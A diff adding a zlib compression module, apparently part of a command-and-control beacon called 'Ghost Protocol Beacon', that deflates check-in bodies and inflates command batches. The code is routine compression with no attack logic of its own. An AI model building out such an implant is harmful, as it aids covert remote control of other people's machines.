@@ -0,0 +1,122 @@
+/*
+ * Ghost Protocol Beacon - Compression Module Implementation
+ * Deflates outgoing check-in bodies and inflates compressed command batches
+ */
+
+#include "compression.h"
+
+#ifndef BEACON_NO_COMPRESS
+
+#include <zlib.h>
+
+int compression_available(void) {
+    return 1;
+}
+
+// Output buffers come from the arena when one is given, otherwise the heap
+static void* buffer_grow(arena_t* arena, void* ptr, size_t old_size, size_t new_size) {
+    return arena ? arena_realloc(arena, ptr, old_size, new_size) : realloc(ptr, new_size);
+}
+
+int compress_deflate(arena_t* arena, const char* data, size_t length, char** output, size_t* output_length) {
+    // compressBound() covers the worst case, so one pass always fits
+    uLong capacity = compressBound((uLong)length);
+    Bytef* buffer = buffer_grow(arena, NULL, 0, capacity);
+    if (!buffer) {
+        return -1;
+    }
+    
+    uLongf written = capacity;
+    // Level 6 is zlib's default; shell output rarely gains much beyond it
+    if (compress2(buffer, &written, (const Bytef*)data, (uLong)length, Z_DEFAULT_COMPRESSION) != Z_OK) {
+        if (!arena) {
+            free(buffer);
+        }
+        return -1;
+    }
+    
+    *output = (char*)buffer;
+    *output_length = written;
+    return 0;
+}
+
+int compress_inflate(arena_t* arena, const char* data, size_t length, char** output, size_t* output_length) {
+    z_stream stream;
+    memset(&stream, 0, sizeof(stream));
+    if (inflateInit(&stream) != Z_OK) {
+        return -1;
+    }
+    
+    // Text batches usually inflate 4-8x; start there and double
+    size_t capacity = length * 4 + 1024;
+    if (capacity > COMPRESS_MAX_INFLATED) {
+        capacity = COMPRESS_MAX_INFLATED;
+    }
+    char* buffer = buffer_grow(arena, NULL, 0, capacity + 1);
+    int status = buffer ? Z_OK : Z_MEM_ERROR;
+    
+    stream.next_in = (Bytef*)data;
+    stream.avail_in = (uInt)length;
+    
+    while (status == Z_OK) {
+        if (stream.total_out == capacity) {
+            if (capacity >= COMPRESS_MAX_INFLATED) {
+                status = Z_BUF_ERROR;
+                break;
+            }
+            size_t grown_capacity = capacity * 2 > COMPRESS_MAX_INFLATED ? COMPRESS_MAX_INFLATED : capacity * 2;
+            char* grown = buffer_grow(arena, buffer, capacity + 1, grown_capacity + 1);
+            if (!grown) {
+                status = Z_MEM_ERROR;
+                break;
+            }
+            buffer = grown;
+            capacity = grown_capacity;
+        }
+        
+        stream.next_out = (Bytef*)buffer + stream.total_out;
+        stream.avail_out = (uInt)(capacity - stream.total_out);
+        status = inflate(&stream, Z_NO_FLUSH);
+        
+        if (status == Z_BUF_ERROR && stream.avail_in == 0) {
+            // Input ended before the stream did
+            break;
+        }
+        if (status == Z_BUF_ERROR) {
+            status = Z_OK;
+        }
+    }
+    
+    size_t inflated = stream.total_out;
+    inflateEnd(&stream);
+    
+    if (status != Z_STREAM_END) {
+        if (!arena) {
+            free(buffer);
+        }
+        return -1;
+    }
+    
+    buffer[inflated] = '\0';
+    *output = buffer;
+    *output_length = inflated;
+    return 0;
+}
+
+#else
+
+int compression_available(void) {
+    return 0;
+}
+
+int compress_deflate(arena_t* arena, const char* data, size_t length, char** output, size_t* output_length) {
+    (void)arena; (void)data; (void)length; (void)output; (void)output_length;
+    return -1;
+}
+
+int compress_inflate(arena_t* arena, const char* data, size_t length, char** output, size_t* output_length) {
+    (void)arena; (void)data; (void)length; (void)output; (void)output_length;
+    return -1;
+}
+
+#endif